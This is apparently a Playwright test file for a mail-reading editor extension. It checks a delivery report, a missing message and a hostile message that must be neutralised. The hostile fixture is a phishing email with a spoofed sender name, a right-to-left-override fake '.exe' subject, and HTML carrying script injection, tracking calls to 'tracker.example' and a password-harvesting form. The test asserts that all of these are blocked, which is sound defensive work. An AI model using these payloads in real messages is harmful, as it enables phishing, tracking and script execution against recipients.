/** Messages as a person reads them: one with attachments, one that means harm, a delivery report; parts opened and saved. */
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { FrameLocator, Locator } from 'playwright-core';
import type { Scenario } from './scenario';
import type { Workbench } from './workbench';

const eml = (...lines: readonly string[]): string => `${lines.join('\r\n')}\r\n`;

const report = eml(
  'Received: from mx.example.org (mx.example.org [192.0.2.7]) (using TLSv1.3) by in.example.test with ESMTPS id 77',
  ' for <alice@example.test>; Tue, 1 Dec 2026 10:00:02 +0000',
  'Received: from localhost by mx.example.org with LMTP id 76; Tue, 1 Dec 2026 10:04:00 +0000',
  'Received: by localhost (Postfix) id 75; Tue, 1 Dec 2026 09:59:58 +0000',
  'Authentication-Results: in.example.test; spf=pass smtp.mailfrom=mx.example.org;',
  ' dkim=fail (body hash did not verify) header.d=example.org; dmarc=none header.from=example.org',
  'From: Mail Delivery System <MAILER-DAEMON@mx.example.org>',
  'To: alice@example.test',
  'Subject: =?utf-8?q?Undelivered_Mail_Returned_=E2=80=93_sorry?=',
  'Date: Tue, 1 Dec 2026 10:00:00 +0000',
  'MIME-Version: 1.0',
  'Content-Type: multipart/report; report-type=delivery-status; boundary=r',
  '',
  '--r',
  'Content-Type: text/plain; charset=utf-8',
  '',
  'Your message could not be delivered.',
  '--r',
  'Content-Type: message/delivery-status',
  '',
  'Original-Envelope-Id: QQ314159+2B1',
  'Reporting-MTA: dns; mx.example.org',
  'Arrival-Date: Tue, 1 Dec 2026 09:59:58 +0000',
  '',
  'Original-Recipient: rfc822;Nobody@example.org',
  'Final-Recipient: rfc822; nobody@example.org',
  'Action: failed',
  'Status: 5.1.1',
  'Remote-MTA: dns; mx2.example.org',
  'Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.org>: no such user',
  '',
  'Final-Recipient: rfc822; slow@example.org',
  'Action: delayed',
  'Status: 4.4.1',
  'Will-Retry-Until: Fri, 4 Dec 2026 10:00:00 +0000',
  '',
  '--r',
  'Content-Type: text/rfc822-headers',
  '',
  'Subject: hello',
  '',
  '--r--',
);

const attachment = 'name;amount\r\nPläne;12\r\n'.repeat(20_000);
const harmful = eml(
  'From: "service@bank.example" <evil@x.example>',
  'To: alice@example.test',
  'Subject: =?utf-8?b?SW52b2ljZSDigK5mZHAuZXhl?=',
  'Date: Tue, 1 Dec 2026 10:00:00 +0000',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary=m',
  '',
  '--m',
  'Content-Type: multipart/alternative; boundary=a',
  '',
  '--a',
  'Content-Type: text/plain; charset=utf-8',
  '',
  'Please pay.',
  '--a',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<html><head><meta http-equiv="refresh" content="0;url=http://tracker.example/refresh">',
  '<base href="http://tracker.example/"><link rel="stylesheet" href="http://tracker.example/a.css">',
  '<style>@import url(http://tracker.example/b.css); body { background: url("http://tracker.example/c.png") } h1 { color: #0a5 }</style>',
  '<script>fetch("http://tracker.example/script"); parent.document.title = "pwned"; document.body.innerHTML = "pwned"</script></head>',
  '<body onload="document.body.textContent = \'pwned\'"><h1>Your invoice</h1><p style="background:u\\72l(http://tracker.example/d.png)">Please pay.</p>',
  '<img src="http://tracker.example/pixel.gif" onerror="document.body.textContent = \'pwned\'"><img src=x onerror=alert(1)>',
  '<svg onload="alert(2)"><image href="http://tracker.example/e.png"/></svg><video poster="http://tracker.example/f.png" src="http://tracker.example/g.mp4"></video>',
  '<iframe src="http://tracker.example/frame"></iframe><object data="http://tracker.example/h"></object>',
  '<form action="http://tracker.example/form"><input name="password" autofocus><button>Sign in</button></form>',
  '<a href="http://tracker.example/link" target="_top">bank.example</a> <a href="javascript:alert(3)">here</a>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs="></body></html>',
  '--a--',
  '--m',
  'Content-Type: text/csv; charset=utf-8; name="table.csv"',
  'Content-Disposition: attachment; filename="table.csv"',
  'Content-Transfer-Encoding: base64',
  '',
  ...(Buffer.from(attachment)
    .toString('base64')
    .match(/.{1,76}/g) ?? []),
  '--m--',
);

/** Messages in alice's INBOX of the sandbox, by a file of the workspace. */
const seed = ({ folder }: Workbench, ...messages: readonly string[]): void => {
  mkdirSync(join(folder, 'mail'));
  for (const [index, message] of messages.entries()) writeFileSync(join(folder, 'mail', `${index + 1}.eml`), message);
  writeFileSync(join(folder, 'mailwright.env.json'), JSON.stringify({ sandbox: { seed: ['alice=./mail'] } }));
};

/** The folder's UIDVALIDITY, as its tooltip says. */
const uidValidity = async (workbench: Workbench): Promise<string> => {
  const { page } = workbench;
  await workbench.activity('Mailwright');
  const header = page.locator('.pane-header', { hasText: 'Mailboxes' });
  await header.waitFor();
  if ((await header.getAttribute('aria-expanded')) !== 'true') await header.click();
  const view = page.locator('.pane', { has: header });
  const row = (label: string): Locator => view.locator('.monaco-list-row', { hasText: label }).first();
  await row('alice').waitFor();
  if ((await row('alice').getAttribute('aria-expanded')) !== 'true')
    await row('alice').locator('.monaco-tl-twistie').click();
  await row('INBOX').waitFor();
  const hover = page.locator('.monaco-hover', { hasText: 'UIDVALIDITY' });
  // A line that is drawn anew under the mouse shows no tooltip: it is pointed at again.
  for (let tries = 0; tries < 5 && !(await hover.isVisible()); tries++) {
    await page.mouse.move(700, 600);
    await row('INBOX').hover();
    await hover.waitFor({ timeout: 5_000 }).catch(() => {});
  }
  const found = /UIDVALIDITY[^0-9]*(\d+)/.exec((await hover.textContent()) ?? '')?.[1];
  assert.ok(found, 'the tooltip has no UIDVALIDITY');
  await page.keyboard.press('Escape');
  return found;
};

/** Opens messages by keys of one's own: Ctrl+Alt+1 for UID 1, and so on. */
const keysFor = async (workbench: Workbench, validity: string, uids: readonly number[]): Promise<void> => {
  const { page } = workbench;
  await workbench.palette('Preferences: Open Keyboard Shortcuts (JSON)');
  await page.locator('.tab.active', { hasText: 'keybindings.json' }).waitFor();
  await page.mouse.move(700, 700);
  await workbench.press('Control+1');
  // The editor may take the focus late: it is emptied until it is empty.
  for (let tries = 0; tries < 5; tries++) {
    await page.locator('.monaco-editor.focused').waitFor();
    await workbench.press('Control+A');
    await workbench.press('Delete');
    if (((await page.locator('.monaco-editor .view-lines').first().textContent()) ?? '').trim() === '') break;
  }
  const ref = (uid: number) => ({ account: 'sandbox/alice', folder: 'INBOX', uidValidity: validity, uid });
  await page.keyboard.insertText(
    JSON.stringify(uids.map((uid) => ({ key: `ctrl+alt+${uid}`, command: 'mailwright.openMessage', args: ref(uid) }))),
  );
  await workbench.press('Control+S');
  await page.locator('.tab.active.dirty').waitFor({ state: 'detached' });
};

const openMessage = async (workbench: Workbench, uid: number, heading: string | RegExp): Promise<FrameLocator> => {
  await workbench.press(`Control+Alt+${uid}`);
  // the first is the transcript panel
  const view = workbench.webview(1);
  await view.locator('h1', { hasText: heading }).waitFor();
  return view;
};

const reading: Scenario = {
  name: 'a delivery report is read: recipients, way, authentication, parts, source',
  run: async (workbench) => {
    seed(workbench, report);
    await keysFor(workbench, await uidValidity(workbench), [1]);
    const view = await openMessage(workbench, 1, 'Undelivered Mail Returned – sorry');
    await workbench.shot('report');
    const row = view.locator('#report tbody tr').first();
    const cells = await row.locator('th, td').allTextContents();
    assert.match(cells[0] ?? '', /nobody@example\.org/);
    assert.deepEqual(cells.slice(1, 3), ['failed', '5.1.1']);
    assert.match(cells[3] ?? '', /failed for good: bad destination mailbox address/);
    assert.match((await view.locator('#report dl').textContent()) ?? '', /QQ314159\+1/);
    await view.locator('#way').scrollIntoViewIfNeeded();
    assert.match((await view.locator('#way').textContent()) ?? '', /\+4 min 2 s.*the time runs backwards/s);
    await workbench.shot('way');
    await view.locator('#header').scrollIntoViewIfNeeded();
    assert.match((await view.locator('#authentication').textContent()) ?? '', /dkimfail.*the signature does not fit/s);
    await workbench.shot('authentication');

    // by keyboard: a part as a document, then the source
    const parts = view.locator('[role=treeitem]');
    await parts.first().focus();
    await workbench.press('ArrowDown');
    await workbench.press('ArrowDown');
    assert.match(
      (await view.locator('[role=treeitem]:focus').getAttribute('aria-label')) ?? '',
      /^Part 2, message\/delivery-status/,
    );
    await workbench.shot('parts');
    await workbench.press('Enter');
    await workbench.line('Original-Envelope-Id: QQ314159+2B1').waitFor();
    await workbench.shot('part');
    await openMessage(workbench, 1, 'Undelivered');
    await view.locator('button', { hasText: 'Open Source' }).click();
    await workbench.line('Authentication-Results: in.example.test').waitFor();
    await workbench.shot('source');
  },
};

const harmless: Scenario = {
  name: 'a message that would script, load and phone home does nothing, and its attachment is saved',
  run: async (workbench) => {
    const { page, folder } = workbench;
    const requests: string[] = [];
    const dialogs: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    seed(workbench, harmful);
    await keysFor(workbench, await uidValidity(workbench), [1]);
    const view = await openMessage(workbench, 1, 'Invoice ‹U+202E›fdp.exe');
    await workbench.shot('harmful-top');
    assert.match(
      (await view.locator('#notices').textContent()) ?? '',
      /name looks like an address \(service@bank\.example\)/,
    );

    const frame = view.frameLocator('#html iframe');
    await frame.locator('h1', { hasText: 'Your invoice' }).waitFor();
    await view.locator('#html').scrollIntoViewIfNeeded();
    const blocked = (await view.locator('#blocked').textContent()) ?? '';
    for (const what of ['script', 'remote picture', 'form', 'embedded page', 'remote style sheet', 'instruction'])
      assert.match(blocked, new RegExp(what), `“${what}” is not said to be blocked: ${blocked}`);
    assert.equal(
      await frame.locator('script, iframe, form, input, object, svg, link, meta[http-equiv=refresh]').count(),
      0,
    );
    assert.equal(await frame.locator('[href], [src^=http], [onload], [onerror]').count(), 0);
    assert.equal(await view.locator('#html iframe').getAttribute('sandbox'), '');
    // what a sender styles is styled, what a sender links is not followed
    assert.equal(
      await frame.locator('h1').evaluate((node) => node.ownerDocument.defaultView?.getComputedStyle(node).color),
      'rgb(0, 170, 85)',
    );
    await frame.locator('a', { hasText: 'bank.example' }).click();
    await view.locator('#html summary').click();
    assert.match((await view.locator('#html table').textContent()) ?? '', /http:\/\/tracker\.example\/link/);
    await workbench.shot('harmful-html');
    assert.doesNotMatch((await frame.locator('body').textContent()) ?? '', /pwned/);
    assert.deepEqual(dialogs, []);
    assert.deepEqual(
      requests.filter((url) => url.includes('tracker.example')),
      [],
    );

    const attached = view.locator('[role=treeitem]', { hasText: 'table.csv' });
    await attached.focus();
    await workbench.press('s');
    const name = page.locator('.quick-input-widget input.input');
    await name.waitFor();
    await name.fill(join(folder, 'saved.csv'));
    await page.keyboard.press('Enter');
    await workbench.toast(/saved\.csv: 480000 octets saved/);
    await workbench.shot('saved');
    assert.equal(readFileSync(join(folder, 'saved.csv'), 'utf8'), attachment);
  },
};

const gone: Scenario = {
  name: 'a message that is gone says so, and what to do',
  run: async (workbench) => {
    seed(workbench, report);
    await keysFor(workbench, await uidValidity(workbench), [9]);
    const view = await openMessage(workbench, 9, 'The message cannot be shown');
    assert.match((await view.locator('[role=alert]').textContent()) ?? '', /UID 9 is not in INBOX any more/);
    await workbench.shot('gone');
    await view.locator('button', { hasText: 'Show Commands' }).click();
    await workbench.line('UID FETCH 9').waitFor();
  },
};

/** What is put into a file stays as it is. */
const settings = { 'editor.autoClosingBrackets': 'never', 'editor.autoClosingQuotes': 'never' };

export const scenarios: readonly Scenario[] = [reading, harmless, gone].map((one) => ({ ...one, settings }));
